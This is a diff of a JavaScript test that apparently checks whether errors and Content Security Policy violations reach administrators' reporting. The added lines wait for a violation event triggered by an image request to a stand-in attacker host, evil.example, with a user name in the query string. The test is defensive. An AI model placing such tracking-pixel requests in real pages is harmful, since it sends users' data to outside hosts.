@@ -30,8 +30,12 @@ test("an error, a violation and the quickness of a visit arrive where administra
       throw new Error("somebody else's trouble with maria@people.example");
     });
     const image = document.createElement("img");
+    const violated = new Promise((resolve) =>
+      document.addEventListener("securitypolicyviolation", resolve, { once: true }),
+    );
     image.src = "https://evil.example/pixel.png?who=maria";
     document.body.append(image);
+    return violated.then(() => {});
   });
   await told;
   // Going on is when a visit is told of.
